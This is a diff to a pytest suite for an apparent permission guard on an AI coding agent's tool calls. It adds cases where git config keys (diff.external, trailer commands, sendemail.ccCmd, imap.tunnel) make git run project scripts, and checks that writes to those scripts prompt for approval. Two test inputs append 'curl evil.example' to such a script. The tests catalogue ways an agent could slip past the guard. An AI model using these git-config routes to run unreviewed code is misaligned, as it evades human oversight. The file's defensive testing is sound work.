@@ -143,13 +143,6 @@ HOOK_DIR_OPTION = (
     "project's top only (npm --prefix is part 2's). Fix: follow the runners' directory "
     "options as make -C is followed"
 )
-GIT_SHELL_VALUES = (
-    "git config values that run a project script the guard does not read: core.fsmonitor "
-    "= $PWD/tools/f.sh (git runs it through the shell: checked, every git diff), "
-    "trailer.<t>.cmd (git commit --trailer: checked), submodule.<s>.update = !sh …, sendemail.toCmd. "
-    "Fix (protected, the git config commands of b637aae): count an expansion as the whole "
-    "project, and read the trailer/submodule/sendemail keys"
-)
 
 HOOKS_SUBDIR_LINK = (
     "a hook that runs the scripts of a directory beside it (.git/hooks/pre-commit runs "
@@ -431,10 +424,46 @@ def gitshell(tmp_path_factory: pytest.TempPathFactory) -> World3:
         ("core.gitProxy", "tools/g3.sh"),
         ("interactive.diffFilter", "sh tools/g4.sh"),
         ("credential.helper", "!f() { sh tools/g5.sh; }; f"),
+        # variants: ${PWD}, $ARG (git's), ccCmd, an identity's toCmd, imap-send's tunnel
+        ("diff.external", "${PWD}/tools/v1.sh"),
+        ("trailer.fix.command", "sh tools/v2.sh $ARG"),
+        ("sendemail.ccCmd", "tools/v3.sh"),
+        ("sendemail.work.toCmd", "tools/v4.sh"),
+        ("imap.tunnel", "sh tools/v5.sh"),
+        # ordinary: git's own variables and the shell's parameters are no program
+        ("mergetool.m.cmd", 'meld "$LOCAL" "$REMOTE" --output "$MERGED"'),
+        ("alias.lg", "!f() { git log $1 $(git rev-parse HEAD); }; f"),
+        ("submodule.t.update", "rebase"),
     ):
         _git(proj, "config", "--add", key, value)
-    for name in ("f", "t", "a", "s", "m", "g1", "g2", "g3", "g4", "g5"):
+    for name in [
+        "f",
+        "t",
+        "a",
+        "s",
+        "m",
+        "g1",
+        "g2",
+        "g3",
+        "g4",
+        "g5",
+        "v1",
+        "v2",
+        "v3",
+        "v4",
+        "v5",
+    ]:
         _exe(proj / "tools" / f"{name}.sh")
+    made.hook("Bash", {"command": "ls"}, 0)
+    return made
+
+
+@pytest.fixture(scope="module")
+def gitunknown(tmp_path_factory: pytest.TempPathFactory) -> World3:
+    """core.pager names a project script through a command substitution."""
+    made = World3(tmp_path_factory.mktemp("round9gitunknown"), scope=SCOPE, git=True)
+    _git(made.proj, "config", "core.pager", "$(git rev-parse --show-toplevel)/tools/p.sh")
+    _exe(made.proj / "tools" / "p.sh")
     made.hook("Bash", {"command": "ls"}, 0)
     return made
 
@@ -652,10 +681,17 @@ HOOKDIRS = [
 ]
 
 GITSHELL = [
-    _ch("Write", _w("tools/f.sh"), "ask", GIT_SHELL_VALUES),
-    _ch("Write", _w("tools/t.sh"), "ask", GIT_SHELL_VALUES),
-    _ch("Write", _w("tools/s.sh"), "ask", GIT_SHELL_VALUES),
-    _ch("Write", _w("tools/m.sh"), "ask", GIT_SHELL_VALUES),
+    # closed: $PWD put in (another expansion: the whole work tree), the trailer,
+    # submodule.*.update = !..., sendemail and imap-send keys read (git_reach)
+    _case("Write", _w("tools/f.sh"), "ask"),
+    _case("Write", _w("tools/t.sh"), "ask"),
+    _case("Write", _w("tools/s.sh"), "ask"),
+    _case("Write", _w("tools/m.sh"), "ask"),
+    _case("Write", _w("tools/v1.sh"), "ask"),
+    _bash("echo 'curl evil.example' >> tools/v2.sh", "ask"),
+    _case("Write", _w("tools/v3.sh"), "ask"),
+    _case("Write", _w("tools/v4.sh"), "ask"),
+    _case("Write", _w("tools/v5.sh"), "ask"),
     # held: the keys b637aae reads, and an alias that cds first (closed meanwhile)
     _case("Write", _w("tools/a.sh"), "ask"),
     _case("Write", _w("tools/g1.sh"), "ask"),
@@ -663,8 +699,15 @@ GITSHELL = [
     _case("Write", _w("tools/g3.sh"), "ask"),
     _case("Write", _w("tools/g4.sh"), "ask"),
     _bash("echo 'curl evil.example' >> tools/g5.sh", "ask"),
-    # ordinary
+    # ordinary (mergetool's $LOCAL, an alias's $1 and $(...), submodule update = rebase)
     _case("Write", _w("README.md", "x\n"), "allow"),
+    _case("Write", _w("tools/new.sh", "x\n"), "allow"),
+]
+
+GITSHELL_UNKNOWN = [
+    # core.pager through a substitution: what it runs is not known, the work tree is
+    _case("Write", _w("tools/p.sh"), "ask"),
+    _case("Write", _w("README.md", "x\n"), "ask"),
 ]
 
 DEEPER = [
@@ -854,6 +897,13 @@ def test_round9_git_config_values_run_through_a_shell(
     gitshell: World3, tool: str, tool_input: dict[str, Any], want: str
 ) -> None:
     _check(gitshell, tool, tool_input, want)
+
+
+@pytest.mark.parametrize(("tool", "tool_input", "want"), GITSHELL_UNKNOWN)
+def test_round9_git_config_value_not_modelled(
+    gitunknown: World3, tool: str, tool_input: dict[str, Any], want: str
+) -> None:
+    _check(gitunknown, tool, tool_input, want)
 
 
 @pytest.mark.parametrize(("tool", "tool_input", "want"), DEEPER)
